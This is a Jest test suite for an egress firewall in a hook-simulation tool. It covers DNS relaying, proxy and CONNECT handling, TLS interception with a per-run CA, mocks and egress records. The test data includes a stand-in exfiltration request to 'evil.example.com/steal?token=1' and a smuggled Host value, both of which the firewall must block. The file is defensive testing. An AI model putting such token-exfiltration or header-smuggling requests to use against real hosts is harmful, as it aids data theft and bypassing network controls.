/**
 * The firewall over real sockets: a test client speaks the relay protocol on the Unix socket and real DNS,
 * HTTP and TLS on top; allowed traffic reaches real servers on 127.0.0.1 through `resolve`.
 */
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { promises as dnsPromises } from 'node:dns';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { Agent, createServer as createHttpServer, request as httpRequest } from 'node:http';
import type { IncomingMessage, Server as HttpServer, ServerResponse } from 'node:http';
import { createServer as createHttpsServer } from 'node:https';
import type { Server as HttpsServer } from 'node:https';
import { connect as netConnect } from 'node:net';
import type { AddressInfo, Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Duplex } from 'node:stream';
import { connect as tlsConnect } from 'node:tls';
import type { TLSSocket } from 'node:tls';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { Firewall } from '../src/firewall/firewall.js';
import type { FirewallOptions } from '../src/firewall/firewall.js';

const RELAY = '127.1.0.1';
const dir = mkdtempSync(join(tmpdir(), 'hooksim-fw-'));
let socketCounter = 0;

/** The upstream's own certificate (self-signed, so the test knows exactly who answered). */
let upstreamKey = '';
let upstreamCert = '';
let plainServer: HttpServer;
let tlsServer: HttpsServer;
let plainPort = 0;
let tlsPort = 0;
const firewalls: Firewall[] = [];

function echo(tls: boolean) {
  return (req: IncomingMessage, res: ServerResponse): void => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      const body = JSON.stringify({
        tls,
        method: req.method,
        url: req.url,
        host: req.headers.host,
        proxyHeader: req.headers['proxy-connection'] ?? null,
        body: Buffer.concat(chunks).toString('utf8'),
      });
      res.writeHead(200, { 'content-type': 'application/json', 'x-upstream': tls ? 'tls' : 'plain' });
      res.end(body);
    });
  };
}

beforeAll(async () => {
  execFileSync(
    'openssl',
    [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:P-256',
      '-nodes',
      '-days',
      '1',
      '-keyout',
      join(dir, 'up.key'),
      '-out',
      join(dir, 'up.pem'),
      '-subj',
      '/CN=upstream.test',
      '-addext',
      'subjectAltName=DNS:packages.contoso.corp,DNS:tunnel.example.test,DNS:api.mocked.test',
    ],
    { stdio: 'ignore' },
  );
  upstreamKey = readFileSync(join(dir, 'up.key'), 'utf8');
  upstreamCert = readFileSync(join(dir, 'up.pem'), 'utf8');
  plainServer = createHttpServer(echo(false));
  plainServer.on('upgrade', (req: IncomingMessage, socket: Duplex) => {
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\nX-Path: ${req.url ?? ''}\r\n\r\n`,
    );
    socket.on('data', (chunk: Buffer) => socket.write(chunk.toString('utf8').toUpperCase()));
    socket.on('end', () => socket.end());
    socket.on('error', () => socket.destroy());
  });
  tlsServer = createHttpsServer({ key: upstreamKey, cert: upstreamCert }, echo(true));
  plainServer.listen(0, '127.0.0.1');
  tlsServer.listen(0, '127.0.0.1');
  await Promise.all([once(plainServer, 'listening'), once(tlsServer, 'listening')]);
  plainPort = (plainServer.address() as AddressInfo).port;
  tlsPort = (tlsServer.address() as AddressInfo).port;
});

afterEach(async () => {
  await Promise.all(firewalls.splice(0).map((firewall) => firewall.close()));
});

afterAll(async () => {
  plainServer.closeAllConnections();
  tlsServer.closeAllConnections();
  await Promise.all([
    new Promise((resolve) => plainServer.close(resolve)),
    new Promise((resolve) => tlsServer.close(resolve)),
  ]);
  rmSync(dir, { recursive: true, force: true });
});

async function startFirewall(options: Partial<FirewallOptions> = {}): Promise<Firewall> {
  socketCounter += 1;
  const firewall = await Firewall.start({
    socketPath: join(dir, `fw-${socketCounter}.sock`),
    surface: 'cloud',
    recommended: false,
    upstreamCaPem: [upstreamCert],
    resolve: {
      'plain.example.test': `127.0.0.1:${plainPort}`,
      'ws.example.test': `127.0.0.1:${plainPort}`,
      'packages.contoso.corp': `127.0.0.1:${tlsPort}`,
      'tunnel.example.test': `127.0.0.1:${tlsPort}`,
      'api.mocked.test': `127.0.0.1:${tlsPort}`,
    },
    ...options,
  });
  firewalls.push(firewall);
  return firewall;
}

function socketPathOf(firewall: Firewall): string {
  return firewall.socketPath;
}

/** A relayed TCP connection, as the in-sandbox agent opens it for a connection accepted on `port`. */
function relayTcp(firewall: Firewall, port: number): Socket {
  const socket = netConnect(socketPathOf(firewall));
  socket.write(`TCP ${RELAY} ${port}\n`);
  return socket;
}

interface Reply {
  status: number;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

/** An agent that keeps one already-open connection alive across requests (keep-alive on that connection). */
class OneConnectionAgent extends Agent {
  constructor(private readonly connection: Duplex) {
    super({ keepAlive: true, maxSockets: 1 });
  }

  override createConnection(): Duplex {
    return this.connection;
  }
}

/** One HTTP/1.1 exchange (real node:http client): on a new connection per call, or on one kept-alive connection. */
function exchange(
  connection: (() => Duplex) | Agent,
  options: { method?: string; path: string; headers?: Record<string, string>; body?: string },
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        ...(connection instanceof Agent ? { agent: connection } : { createConnection: connection as never }),
        method: options.method ?? 'GET',
        path: options.path,
        headers: options.headers,
      },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({
            status: res.statusCode ?? 0,
            headers: res.headers,
            body: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        res.on('error', reject);
      },
    );
    req.on('error', reject);
    req.end(options.body);
  });
}

/** CONNECT through the proxy listener; resolves with the status and, on 200, the tunnel socket. */
function connectTunnel(
  firewall: Firewall,
  authority: string,
): Promise<{ status: number; socket: Socket; head: Buffer }> {
  return new Promise((resolve, reject) => {
    const req = httpRequest({
      createConnection: (() => relayTcp(firewall, 3128)) as never,
      method: 'CONNECT',
      path: authority,
      headers: { host: authority },
    });
    req.on('connect', (res: IncomingMessage, socket: Socket, head: Buffer) =>
      resolve({ status: res.statusCode ?? 0, socket, head }),
    );
    req.on('error', reject);
    req.end();
  });
}

function readAll(socket: Duplex): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    socket.on('error', () => resolve(Buffer.concat(chunks).toString('utf8')));
    socket.on('close', () => resolve(Buffer.concat(chunks).toString('utf8')));
  });
}

function startTls(socket: Duplex, servername: string, ca: string): Promise<TLSSocket> {
  return new Promise((resolve, reject) => {
    const secured = tlsConnect({ socket, servername, ca, ALPNProtocols: ['http/1.1'] });
    secured.once('secureConnect', () => resolve(secured));
    secured.once('error', reject);
  });
}

/** A UDP DNS server on 127.0.0.1 that relays each datagram as `DNS <n>` (the agent's job), for a real resolver. */
async function startDnsBridge(
  firewall: Firewall,
): Promise<{ resolver: dnsPromises.Resolver; close(): void }> {
  const udp = createSocket('udp4');
  udp.on('message', (message, from) => {
    const relay = netConnect(socketPathOf(firewall));
    relay.end(Buffer.concat([Buffer.from(`DNS ${message.length}\n`), message]));
    const chunks: Buffer[] = [];
    relay.on('data', (chunk: Buffer) => chunks.push(chunk));
    relay.on('error', () => undefined);
    relay.on('close', () => {
      const all = Buffer.concat(chunks);
      const newline = all.indexOf(0x0a);
      if (newline > 0) udp.send(all.subarray(newline + 1), from.port, from.address);
    });
  });
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const resolver = new dnsPromises.Resolver({ timeout: 3000, tries: 1 });
  resolver.setServers([`127.0.0.1:${udp.address().port}`]);
  return { resolver, close: () => udp.close() };
}

const BLOCKED = (url: string): string => `Blocked by hooksim firewall: ${url}`;

describe('cloud-environment §5.2 point 1: DNS through the relay', () => {
  it('allowed names resolve to the relay address, AAAA is empty, blocked names are NXDOMAIN and recorded (real resolver)', async () => {
    const firewall = await startFirewall({ allow: ['packages.contoso.corp'] });
    const bridge = await startDnsBridge(firewall);
    try {
      firewall.attribute({ event: 'sessionStart', file: '.github/hooks/a.json', index: 0 });
      await expect(bridge.resolver.resolve4('prod.packages.contoso.corp')).resolves.toEqual([RELAY]);
      await expect(bridge.resolver.resolve4('API.GitHub.com')).resolves.toEqual([RELAY]);
      await expect(bridge.resolver.resolve6('packages.contoso.corp')).rejects.toMatchObject({
        code: 'ENODATA',
      });
      await expect(bridge.resolver.resolve4('localhost')).resolves.toEqual(['127.0.0.1']);
      await expect(bridge.resolver.resolve4('evil.example.com')).rejects.toMatchObject({ code: 'ENOTFOUND' });
      await expect(bridge.resolver.resolve4('evil.example.com')).rejects.toMatchObject({ code: 'ENOTFOUND' });
    } finally {
      bridge.close();
    }
    expect(firewall.egress()).toEqual([
      {
        host: 'evil.example.com',
        kind: 'dns',
        allowed: false,
        event: 'sessionStart',
        file: '.github/hooks/a.json',
        index: 0,
        count: 2,
      },
    ]);
  });

  it('answers several queries on one relay connection, echoing id and question', async () => {
    const firewall = await startFirewall();
    const query = (id: number, name: string): Buffer => {
      const labels = name
        .split('.')
        .map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
      const header = Buffer.from([id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
      return Buffer.concat([header, ...labels, Buffer.from([0, 0, 1, 0, 1])]);
    };
    const socket = netConnect(socketPathOf(firewall));
    const first = query(0x1234, 'api.github.com');
    const second = query(0x4321, 'nope.example');
    socket.write(
      Buffer.concat([
        Buffer.from(`DNS ${first.length}\n`),
        first,
        Buffer.from(`DNS ${second.length}\n`),
        second,
      ]),
    );
    const chunks: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    await new Promise<void>((resolve) => {
      const check = (): void => {
        const text = Buffer.concat(chunks);
        const firstLength = Number(text.subarray(0, text.indexOf(0x0a)).toString());
        const rest = text.subarray(text.indexOf(0x0a) + 1 + firstLength);
        if (rest.includes(0x0a) && rest.length > rest.indexOf(0x0a) + 12) resolve();
        else setTimeout(check, 10);
      };
      check();
    });
    socket.end();
    const all = Buffer.concat(chunks);
    const firstLength = Number(all.subarray(0, all.indexOf(0x0a)).toString());
    const firstAnswer = all.subarray(all.indexOf(0x0a) + 1, all.indexOf(0x0a) + 1 + firstLength);
    expect(firstAnswer.readUInt16BE(0)).toBe(0x1234);
    expect(firstAnswer.readUInt16BE(2) & 0x0f).toBe(0);
    expect(firstAnswer.readUInt16BE(6)).toBe(1);
    expect([...firstAnswer.subarray(firstAnswer.length - 4)]).toEqual([127, 1, 0, 1]);
    const rest = all.subarray(all.indexOf(0x0a) + 1 + firstLength);
    const secondAnswer = rest.subarray(rest.indexOf(0x0a) + 1);
    expect(secondAnswer.readUInt16BE(0)).toBe(0x4321);
    expect(secondAnswer.readUInt16BE(2) & 0x0f).toBe(3);
    expect(firewall.egress()).toEqual([{ host: 'nope.example', kind: 'dns', allowed: false, count: 1 }]);
  });
});

describe('cloud-environment §5.2 point 2: HTTP through the proxy and the transparent port', () => {
  it('absolute-form HTTP: allowed is forwarded (decided URL, hop-by-hop dropped), blocked is 403 with the URL', async () => {
    const firewall = await startFirewall({ allow: ['plain.example.test'] });
    firewall.attribute({ event: 'preToolUse', file: '.github/hooks/policy.json', index: 1, step: 2 });
    const via = (): Duplex => relayTcp(firewall, 3128);
    const allowed = await exchange(via, {
      method: 'POST',
      path: 'http://plain.example.test/a/../x?y=1',
      headers: { host: 'plain.example.test', 'proxy-connection': 'keep-alive' },
      body: 'payload',
    });
    expect(allowed.status).toBe(200);
    expect(JSON.parse(allowed.body)).toEqual({
      tls: false,
      method: 'POST',
      url: '/x?y=1',
      host: 'plain.example.test',
      proxyHeader: null,
      body: 'payload',
    });
    const blocked = await exchange(via, {
      path: 'http://evil.example.com/steal?token=1',
      headers: { host: 'evil.example.com' },
    });
    expect(blocked.status).toBe(403);
    expect(blocked.body).toBe(BLOCKED('http://evil.example.com/steal?token=1'));
    const attribution = { event: 'preToolUse', file: '.github/hooks/policy.json', index: 1, step: 2 };
    expect(firewall.egress()).toEqual([
      {
        host: 'plain.example.test',
        url: 'http://plain.example.test/x?y=1',
        kind: 'http',
        allowed: true,
        ...attribution,
        count: 1,
      },
      {
        host: 'evil.example.com',
        url: 'http://evil.example.com/steal?token=1',
        kind: 'http',
        allowed: false,
        ...attribution,
        count: 1,
      },
    ]);
  });

  it('transparent port 80: the Host header names the host', async () => {
    const firewall = await startFirewall({ allow: ['http://plain.example.test/ok/'] });
    const via = (): Duplex => relayTcp(firewall, 80);
    const allowed = await exchange(via, { path: '/ok/file', headers: { host: 'plain.example.test' } });
    expect(allowed.status).toBe(200);
    expect(JSON.parse(allowed.body)).toMatchObject({ url: '/ok/file', host: 'plain.example.test' });
    const outside = await exchange(via, { path: '/other', headers: { host: 'plain.example.test' } });
    expect(outside.status).toBe(403);
    expect(outside.body).toBe(BLOCKED('http://plain.example.test/other'));
    const garbageHost = await exchange(via, {
      path: '/ok/',
      headers: { host: 'plain.example.test/@evil.example' },
    });
    expect(garbageHost.status).toBe(400);
    expect(firewall.egress().map((record) => [record.url, record.allowed])).toEqual([
      ['http://plain.example.test/ok/file', true],
      ['http://plain.example.test/other', false],
    ]);
  });

  it('CONNECT to a host allowed by a domain rule is tunnelled untouched: the upstream certificate, a real handshake', async () => {
    const firewall = await startFirewall({ allow: ['tunnel.example.test'] });
    firewall.attribute({ event: 'postToolUse', tool: 'bash' });
    const tunnel = await connectTunnel(firewall, 'tunnel.example.test:443');
    expect(tunnel.status).toBe(200);
    const secured = await startTls(tunnel.socket, 'tunnel.example.test', upstreamCert);
    expect(secured.getPeerCertificate().subject.CN).toBe('upstream.test');
    const reply = await exchange(() => secured, {
      path: '/anything',
      headers: { host: 'tunnel.example.test' },
    });
    expect(JSON.parse(reply.body)).toMatchObject({ tls: true, url: '/anything' });
    secured.destroy();
    expect(firewall.egress()).toEqual([
      {
        host: 'tunnel.example.test',
        url: 'https://tunnel.example.test/',
        kind: 'http',
        allowed: true,
        event: 'postToolUse',
        tool: 'bash',
        count: 1,
      },
    ]);
  });

  it('CONNECT to a host no rule names is answered 403 and recorded as https://host/', async () => {
    const firewall = await startFirewall();
    const tunnel = await connectTunnel(firewall, 'evil.example.com:443');
    expect(tunnel.status).toBe(403);
    const rest = tunnel.head.toString('utf8') + (await readAll(tunnel.socket));
    expect(rest).toBe(BLOCKED('https://evil.example.com/'));
    expect(firewall.egress()).toEqual([
      { host: 'evil.example.com', url: 'https://evil.example.com/', kind: 'http', allowed: false, count: 1 },
    ]);
  });

  it('CONNECT to another port: tunnelled as other TCP for a domain rule, else 403; recorded as tcp://HOST:PORT', async () => {
    const firewall = await startFirewall({ allow: ['tunnel.example.test'] });
    const allowed = await connectTunnel(firewall, 'tunnel.example.test:22');
    expect(allowed.status).toBe(200);
    allowed.socket.destroy();
    const blocked = await connectTunnel(firewall, 'evil.example.com:22');
    expect(blocked.status).toBe(403);
    expect(blocked.head.toString('utf8') + (await readAll(blocked.socket))).toBe(
      BLOCKED('tcp://evil.example.com:22'),
    );
    expect(firewall.egress().map((record) => [record.url, record.allowed])).toEqual([
      ['tcp://tunnel.example.test:22', true],
      ['tcp://evil.example.com:22', false],
    ]);
  });

  it('TLS on port 443 for a host no rule names is closed and recorded as https://host/', async () => {
    const firewall = await startFirewall();
    await expect(startTls(relayTcp(firewall, 443), 'evil.example.com', firewall.caCertPem)).rejects.toThrow();
    expect(firewall.egress()).toEqual([
      { host: 'evil.example.com', url: 'https://evil.example.com/', kind: 'http', allowed: false, count: 1 },
    ]);
  });

  it('an allowed CONNECT whose destination does not answer gets 502, not a hang', async () => {
    const firewall = await startFirewall({
      allow: ['down.example.test'],
      resolve: { 'down.example.test': '127.0.0.1:1' },
    });
    const tunnel = await connectTunnel(firewall, 'down.example.test:443');
    expect(tunnel.status).toBe(502);
    tunnel.socket.destroy();
  });

  it('other TCP on a transparent port is refused and recorded as tcp://HOST:PORT (§5.2 point 4)', async () => {
    const firewall = await startFirewall();
    const socket = relayTcp(firewall, 80);
    socket.write('SSH-2.0-OpenSSH_9.6\r\n');
    expect(await readAll(socket)).toBe('');
    expect(firewall.egress()).toEqual([
      { host: RELAY, url: `tcp://${RELAY}:80`, kind: 'http', allowed: false, count: 1 },
    ]);
  });
});

describe('cloud-environment §5.2 point 3: TLS interception for hosts allowed only by URL rules', () => {
  const rule = 'https://packages.contoso.corp/project-1/';

  it('through CONNECT: a client trusting the per-run CA gets 403 outside the rule and the upstream answer inside', async () => {
    const firewall = await startFirewall({ allow: [rule] });
    const tunnel = await connectTunnel(firewall, 'packages.contoso.corp:443');
    expect(tunnel.status).toBe(200);
    const secured = await startTls(tunnel.socket, 'packages.contoso.corp', firewall.caCertPem);
    expect(secured.getPeerCertificate().issuer.O).toBe('hooksim');
    const via = new OneConnectionAgent(secured);
    const outside = await exchange(via, { path: '/project-2', headers: { host: 'packages.contoso.corp' } });
    expect(outside.status).toBe(403);
    expect(outside.body).toBe(BLOCKED('https://packages.contoso.corp/project-2'));
    const climbing = await exchange(via, {
      path: '/project-1/../project-2',
      headers: { host: 'packages.contoso.corp' },
    });
    expect(climbing.status).toBe(403);
    const inside = await exchange(via, {
      path: '/project-1/tags/latest',
      headers: { host: 'packages.contoso.corp' },
    });
    expect(inside.status).toBe(200);
    expect(JSON.parse(inside.body)).toMatchObject({
      tls: true,
      url: '/project-1/tags/latest',
      host: 'packages.contoso.corp',
    });
    const fronted = await exchange(via, { path: '/project-1/', headers: { host: 'evil.example.com' } });
    expect(fronted.status).toBe(421);
    secured.destroy();
    expect(firewall.egress().map((record) => [record.url, record.allowed, record.count])).toEqual([
      ['https://packages.contoso.corp/project-2', false, 2],
      ['https://packages.contoso.corp/project-1/tags/latest', true, 1],
    ]);
  });

  it('transparently on port 443: the SNI names the host', async () => {
    const firewall = await startFirewall({ allow: [rule] });
    const secured = await startTls(relayTcp(firewall, 443), 'packages.contoso.corp', firewall.caCertPem);
    const kept = new OneConnectionAgent(secured);
    const inside = await exchange(kept, { path: '/project-1/', headers: { host: 'packages.contoso.corp' } });
    expect(JSON.parse(inside.body)).toMatchObject({ tls: true, url: '/project-1/' });
    const outside = await exchange(kept, { path: '/', headers: { host: 'packages.contoso.corp' } });
    expect(outside.status).toBe(403);
    secured.destroy();
  });

  it('a client that does not trust the CA fails the handshake; nothing reaches the upstream', async () => {
    const firewall = await startFirewall({ allow: [rule] });
    await expect(startTls(relayTcp(firewall, 443), 'packages.contoso.corp', upstreamCert)).rejects.toThrow();
    expect(firewall.egress()).toEqual([]);
  });

  it('the per-run CA and its leaves pass strict OpenSSL verification', async () => {
    const firewall = await startFirewall({ allow: [rule] });
    const secured = await startTls(relayTcp(firewall, 443), 'packages.contoso.corp', firewall.caCertPem);
    const leaf = secured.getPeerX509Certificate();
    secured.destroy();
    expect(leaf?.subjectAltName).toBe('DNS:packages.contoso.corp');
    const caFile = join(dir, 'run-ca.pem');
    const leafFile = join(dir, 'run-leaf.pem');
    execFileSync('sh', ['-c', `cat > ${caFile}`], { input: firewall.caCertPem });
    execFileSync('sh', ['-c', `cat > ${leafFile}`], { input: leaf?.toString() ?? '' });
    const out = execFileSync('openssl', [
      'verify',
      '-x509_strict',
      '-purpose',
      'sslserver',
      '-CAfile',
      caFile,
      leafFile,
    ]);
    expect(out.toString()).toContain(': OK');
  });
});

describe('cloud-environment §5.7 mocks', () => {
  const mocks = {
    'https://api.mocked.test/': { json: { scope: 'host' } },
    'https://api.mocked.test/v1/': { status: 201, headers: { 'x-mock': 'v1' }, body: 'plain text' },
    'http://plain.example.test/slow': { delayMs: 300, json: [1, 2] },
    'https://evil.example.com/': { json: { never: true } },
  };

  it('longest prefix wins; json, body, status and headers are sent; mocked records say so', async () => {
    const firewall = await startFirewall({ allow: ['api.mocked.test', 'plain.example.test'], mocks });
    const tunnel = await connectTunnel(firewall, 'api.mocked.test:443');
    // A domain-allowed host with a mock is intercepted, not tunnelled.
    const secured = await startTls(tunnel.socket, 'api.mocked.test', firewall.caCertPem);
    const via = new OneConnectionAgent(secured);
    const hostMock = await exchange(via, { path: '/other', headers: { host: 'api.mocked.test' } });
    expect(hostMock).toMatchObject({ status: 200, body: '{"scope":"host"}' });
    expect(hostMock.headers['content-type']).toBe('application/json');
    const longer = await exchange(via, { path: '/v1/users', headers: { host: 'api.mocked.test' } });
    expect(longer).toMatchObject({ status: 201, body: 'plain text' });
    expect(longer.headers['x-mock']).toBe('v1');
    secured.destroy();
    expect(firewall.egress().map((record) => [record.url, record.allowed, record.mocked])).toEqual([
      ['https://api.mocked.test/other', true, true],
      ['https://api.mocked.test/v1/users', true, true],
    ]);
  });

  it('delayMs delays the answer', async () => {
    const firewall = await startFirewall({ allow: ['plain.example.test'], mocks });
    const started = Date.now();
    const reply = await exchange(() => relayTcp(firewall, 3128), {
      path: 'http://plain.example.test/slow',
      headers: { host: 'plain.example.test' },
    });
    expect(Date.now() - started).toBeGreaterThanOrEqual(280);
    expect(reply.body).toBe('[1,2]');
  });

  it('the firewall decides first: a blocked URL never reaches its mock (mock-not-allow-listed)', async () => {
    const firewall = await startFirewall({ mocks });
    const secured = await startTls(relayTcp(firewall, 443), 'evil.example.com', firewall.caCertPem);
    const reply = await exchange(() => secured, { path: '/x', headers: { host: 'evil.example.com' } });
    secured.destroy();
    expect(reply).toMatchObject({ status: 403, body: BLOCKED('https://evil.example.com/x') });
    expect(firewall.egress()).toEqual([
      { host: 'evil.example.com', url: 'https://evil.example.com/x', kind: 'http', allowed: false, count: 1 },
    ]);
    expect(firewall.noteDetails()).toEqual([
      expect.objectContaining({ code: 'mock-not-allow-listed', url: 'https://evil.example.com/x' }),
    ]);
    expect(firewall.notes()).toEqual([
      'The mock for https://evil.example.com/x never answers: the firewall blocks that URL. Add it to firewall.allow.',
    ]);
  });
});

describe('cloud-environment §5.4 attribution and deduplication', () => {
  it('every record carries the attribution current when it happened; counts deduplicate on all other fields', async () => {
    const firewall = await startFirewall();
    const via = (): Duplex => relayTcp(firewall, 3128);
    const get = (): Promise<Reply> =>
      exchange(via, { path: 'http://evil.example.com/', headers: { host: 'evil.example.com' } });
    firewall.attribute({ event: 'preToolUse', file: '.github/hooks/a.json', index: 0, step: 1 });
    await get();
    await get();
    firewall.attribute({ event: 'preToolUse', file: '.github/hooks/a.json', index: 0, step: 2 });
    await get();
    firewall.attribute(undefined);
    await get();
    const base = { host: 'evil.example.com', url: 'http://evil.example.com/', kind: 'http', allowed: false };
    expect(firewall.egress()).toEqual([
      { ...base, event: 'preToolUse', file: '.github/hooks/a.json', index: 0, step: 1, count: 2 },
      { ...base, event: 'preToolUse', file: '.github/hooks/a.json', index: 0, step: 2, count: 1 },
      { ...base, count: 1 },
    ]);
  });
});

describe('runtime-behaviour §12 / cloud-environment §5.6: the gate for HTTP hooks', () => {
  it('records every checked URL with the current hook; blocks, allows and mocks (R082)', async () => {
    const firewall = await startFirewall({
      allow: ['https://hooks.example.com/copilot/'],
      mocks: {
        'https://hooks.example.com/copilot/mocked': { status: 202, json: { ok: true } },
        'https://blocked.example.com/': { body: 'x' },
      },
    });
    firewall.attribute({ event: 'preToolUse', file: '.github/hooks/h.json', index: 3 });
    expect(firewall.gate.check(new URL('https://hooks.example.com/copilot/pre'))).toEqual({ allowed: true });
    expect(firewall.gate.check(new URL('https://hooks.example.com/other'))).toEqual({ allowed: false });
    expect(firewall.gate.check(new URL('https://hooks.example.com/copilot/mocked'))).toEqual({
      allowed: true,
      mock: { status: 202, headers: { 'content-type': 'application/json' }, body: '{"ok":true}' },
    });
    expect(firewall.gate.check(new URL('https://blocked.example.com/x'))).toEqual({ allowed: false });
    expect(firewall.gate.check(new URL('http://127.0.0.1:9/hook'))).toEqual({ allowed: true });
    const attribution = { event: 'preToolUse', file: '.github/hooks/h.json', index: 3 };
    expect(firewall.egress()).toEqual([
      {
        host: 'hooks.example.com',
        url: 'https://hooks.example.com/copilot/pre',
        kind: 'http',
        allowed: true,
        ...attribution,
        count: 1,
      },
      {
        host: 'hooks.example.com',
        url: 'https://hooks.example.com/other',
        kind: 'http',
        allowed: false,
        ...attribution,
        count: 1,
      },
      {
        host: 'hooks.example.com',
        url: 'https://hooks.example.com/copilot/mocked',
        kind: 'http',
        allowed: true,
        mocked: true,
        ...attribution,
        count: 1,
      },
      {
        host: 'blocked.example.com',
        url: 'https://blocked.example.com/x',
        kind: 'http',
        allowed: false,
        ...attribution,
        count: 1,
      },
    ]);
    expect(firewall.noteDetails().map((note) => note.code)).toEqual(['mock-not-allow-listed']);
  });
});

describe('runtime-behaviour §1.1: the cli surface allows everything and still records it', () => {
  it('unlisted hosts resolve, are forwarded and recorded as allowed; mocks still answer', async () => {
    const firewall = await startFirewall({
      surface: 'cli',
      mocks: { 'http://ws.example.test/mocked': { body: 'mocked' } },
    });
    const bridge = await startDnsBridge(firewall);
    try {
      await expect(bridge.resolver.resolve4('anything.example.org')).resolves.toEqual([RELAY]);
    } finally {
      bridge.close();
    }
    const reply = await exchange(() => relayTcp(firewall, 80), {
      path: '/free',
      headers: { host: 'plain.example.test' },
    });
    expect(JSON.parse(reply.body)).toMatchObject({ url: '/free' });
    const mocked = await exchange(() => relayTcp(firewall, 80), {
      path: '/mocked',
      headers: { host: 'ws.example.test' },
    });
    expect(mocked.body).toBe('mocked');
    expect(firewall.gate.check(new URL('https://evil.example.com/'))).toEqual({ allowed: true });
    expect(
      firewall.egress().map((record) => [record.kind, record.url, record.allowed, record.mocked]),
    ).toEqual([
      ['http', 'http://plain.example.test/free', true, undefined],
      ['http', 'http://ws.example.test/mocked', true, true],
      ['http', 'https://evil.example.com/', true, undefined],
    ]);
  });
});

describe('cloud-environment §5.2: upgrades are decided like requests', () => {
  it('an allowed upgrade is spliced to the upstream; a blocked one is 403', async () => {
    const firewall = await startFirewall({ allow: ['ws.example.test'] });
    const socket = relayTcp(firewall, 80);
    socket.write(
      'GET /chat HTTP/1.1\r\nHost: ws.example.test\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n',
    );
    const received: Buffer[] = [];
    socket.on('data', (chunk: Buffer) => received.push(chunk));
    await new Promise<void>((resolve) => {
      const wait = (): void =>
        Buffer.concat(received).includes('\r\n\r\n') ? resolve() : void setTimeout(wait, 10);
      wait();
    });
    expect(Buffer.concat(received).toString()).toContain('101 Switching Protocols');
    expect(Buffer.concat(received).toString()).toContain('X-Path: /chat');
    received.length = 0;
    socket.write('hello');
    await new Promise<void>((resolve) => {
      const wait = (): void =>
        Buffer.concat(received).toString() === 'HELLO' ? resolve() : void setTimeout(wait, 10);
      wait();
    });
    socket.destroy();
    const blocked = relayTcp(firewall, 80);
    blocked.write(
      'GET /chat HTTP/1.1\r\nHost: evil.example.com\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n',
    );
    expect(await readAll(blocked)).toMatch(
      /^HTTP\/1.1 403 Forbidden[\s\S]*Blocked by hooksim firewall: http:\/\/evil.example.com\/chat$/,
    );
  });
});
